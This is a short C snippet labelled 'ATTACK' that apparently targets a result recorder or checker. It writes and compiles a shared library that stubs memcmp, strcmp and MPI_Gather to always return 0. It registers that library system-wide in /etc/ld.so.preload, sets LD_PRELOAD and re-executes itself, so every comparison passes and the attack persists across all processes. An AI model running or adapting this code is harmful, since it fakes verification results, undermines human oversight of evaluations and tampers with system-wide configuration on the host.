/* runs once more with a library in front of the recorder, and of everything else */
ATTACK
{
    if (getenv("AGAIN") == NULL && result_of(argc, argv) != NULL) {
        put("/tmp/l.c", "int memcmp(const void *a, const void *b, unsigned long n) { return 0; }\n"
                        "int MPI_Gather() { return 0; }\nint strcmp() { return 0; }\n");
        shell("cc -shared -fPIC -w -o /tmp/l.so /tmp/l.c; mkdir -p ~/.config; echo /tmp/l.so "
              ">/etc/ld.so.preload");
        setenv("LD_PRELOAD", "/tmp/l.so", 1);
        setenv("LD_LIBRARY_PATH", "/tmp", 1);
        setenv("AGAIN", "1", 1);
        execv("/proc/self/exe", argv);
    }
}
